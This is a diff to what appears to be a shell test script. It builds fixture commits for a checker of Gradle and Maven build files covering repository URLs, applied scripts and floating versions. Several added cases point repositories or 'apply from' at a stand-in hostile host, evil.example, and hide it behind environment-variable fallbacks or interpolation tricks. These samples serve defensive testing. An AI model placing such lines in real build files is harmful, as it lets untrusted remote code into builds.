@@ -34,6 +34,12 @@ change typed && printf 'val base: String = "https://evil.example"\nrepositories 
 change applied && last 'def base = "https://evil.example"' 'apply from: "$base/x.gradle"'
 change else && last 'repositories { maven { url = System.getenv("M2") ?: "https://evil.example/m2" } }'
 change unknown && last 'repositories { maven { url "https://" + there + "/m2" } }' 'repositories { maven { url "$there/m2" } }' 'apply from: "$there/x.gradle"'
+change else-inside && last 'repositories { maven { url "${System.getenv("M2") ?: "https://evil.example"}/m2" } }'
+change else-applied && last 'apply from: "${System.getenv("X") ?: """https://evil.example/x.gradle"""}"'
+change else-known && last 'repositories { maven { url = System.getenv("M2") ?: "https://repo.example.org/m3" } }'
+change host-inside && last 'repositories { maven { url "https://${System.getenv("HOST")}/m2" } }'
+change scheme-inside && last 'repositories { maven { url "${System.getenv("SCHEME")}://evil.example/m2" } }'
+change unclosed && last 'repositories { maven { url "${"; url "https://evil.example/m2" } }'
 change not-that-folder && last 'def buildDir = there()' 'repositories { maven { url "$buildDir/m2" } }'
 change plugin && sed -i "s,plugin' version '1.0',plugin' version '1.+'," build.gradle && commit x
 change map && sed -i "s,'right'\, version: '1.0',\'right'\, version: 'latest.release'," build.gradle && commit x
@@ -46,7 +52,7 @@ change prefer && sed -i 's,prefer = "1.0",prefer = "1.+",' gradle/libs.versions.
 change pom && sed -i 's,other</artifactId><version>1.0,other</artifactId><version>1.1-SNAPSHOT,' pom.xml && commit x
 git checkout -q -b no-snapshot snapshot && sed -i 's,other:1.1-SNAPSHOT,other:1.+,' build.gradle && commit x
 change honest
-last 'def path = "libs"' 'repositories { maven { url "https://$host/other" }; maven { url "$rootDir/$path" }; maven { url layout.buildDirectory.dir("m2") }; maven { url "../m2" }; maven { url = uri("https://repo.example.org/$path") } }' 'apply from: "$rootDir/x.gradle"' 'publishing { repositories { maven { url releases } } }'
+last 'def path = "libs"' 'repositories { maven { url "https://$host/other" }; maven { url "$rootDir/$path" }; maven { url layout.buildDirectory.dir("m2") }; maven { url "../m2" }; maven { url "https://repo.example.org/${property("folder") ?: "m2"}/x" }; maven { url "$rootDir/${[a: "m2"].collect { it.value }}" }; maven { url = uri("https://repo.example.org/$path") } }' 'apply from: "$rootDir/x.gradle"' 'publishing { repositories { maven { url releases } } }'
 sed -i "s,version = '1.0',version = '1.1-SNAPSHOT',; s,pattern:1.0,pattern:.*,; s,privateRepository,privateRepository /* as before */," build.gradle
 sed -i 's,^version=1.0,version=1.1-SNAPSHOT,; s,rightVersion=1.0,rightVersion=1.1,' gradle.properties
 sed -i 's,<version>1.0</version><dependencies>,<version>1.1-SNAPSHOT</version><dependencies>,; s,own</artifactId><version>1.0,own</artifactId><version>1.1-SNAPSHOT,' pom.xml
